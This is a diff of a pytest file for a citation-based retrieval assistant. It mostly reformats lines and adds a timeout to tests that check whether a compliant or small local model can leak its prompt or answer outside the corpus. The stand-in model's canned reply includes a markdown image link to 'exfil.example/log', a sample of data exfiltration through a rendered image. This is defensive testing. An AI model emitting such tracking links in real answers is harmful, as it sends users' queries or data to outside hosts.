@@ -52,7 +52,9 @@ class CompliantModel(OllamaStandIn):
             "Track this answer: ![x](https://exfil.example/log?q=1)",
         ]
         cite = [{"n": 1, "quote": quote}]
-        return json.dumps({"answered": True, "sentences": [{"text": s, "citations": cite} for s in said]})
+        return json.dumps(
+            {"answered": True, "sentences": [{"text": s, "citations": cite} for s in said]}
+        )
 
     @reply.setter
     def reply(self, value: str) -> None:
@@ -77,13 +79,18 @@ def violations(assistant: Assistant, judge: DeterministicJudge) -> tuple[int, li
                 retrieved=[], abstained=False, seconds=0.0, output="",
             )  # fmt: skip
             valid, supported = validity(record), alce(record, judge)
-            if valid["valid_markers"] < valid["markers"] or valid["verbatim_quotes"] < valid["quotes"]:
+            if (
+                valid["valid_markers"] < valid["markers"]
+                or valid["verbatim_quotes"] < valid["quotes"]
+            ):
                 problems.append("invalid citation")
             if supported["supported"] < supported["statements"]:
                 problems.append("a sentence its citations do not support (outside the corpus)")
         if problems:
             found.append((item["kind"], item["prompt"][:60], problems))
-    print(f"\n{declined} of {len(PROMPTS)} prompts answered with 'the guidance does not cover this'")
+    print(
+        f"\n{declined} of {len(PROMPTS)} prompts answered with 'the guidance does not cover this'"
+    )
     return len(PROMPTS), found
 
 
@@ -107,10 +114,14 @@ def test_extractive_answers_stay_in_the_corpus(assistant, library_settings):
 
 
 @pytest.mark.slow
-def test_a_compliant_model_cannot_leak_its_prompt_or_answer_outside_the_corpus(assistant, library_settings):
+def test_a_compliant_model_cannot_leak_its_prompt_or_answer_outside_the_corpus(
+    assistant, library_settings
+):
     with CompliantModel() as model:
         compliant = assistant.with_settings(backend="ollama", ollama_host=model.url)
-        asked, found = violations(compliant, DeterministicJudge(assistant.embedder, library_settings))
+        asked, found = violations(
+            compliant, DeterministicJudge(assistant.embedder, library_settings)
+        )
         chats = model.count("/api/chat")
     report("ollama (compliant stand-in)", asked, found)
     assert chats > 0  # the model was asked (the prompts that retrieve something)
@@ -118,8 +129,11 @@ def test_a_compliant_model_cannot_leak_its_prompt_or_answer_outside_the_corpus(a
 
 
 @pytest.mark.slow
+@pytest.mark.timeout(1800)  # the small model on 2 cores: 10-20 s a question
 def test_the_llamacpp_runtime_leaks_nothing(assistant, library_settings, gemma_gguf):
-    small = assistant.with_settings(backend="llamacpp", llamacpp_model_path=gemma_gguf, max_answer_tokens=120)
+    small = assistant.with_settings(
+        backend="llamacpp", llamacpp_model_path=gemma_gguf, max_answer_tokens=120
+    )
     asked, found = violations(small, DeterministicJudge(assistant.embedder, library_settings))
     report("llamacpp (gemma 270M test model)", asked, found)
     assert found == []
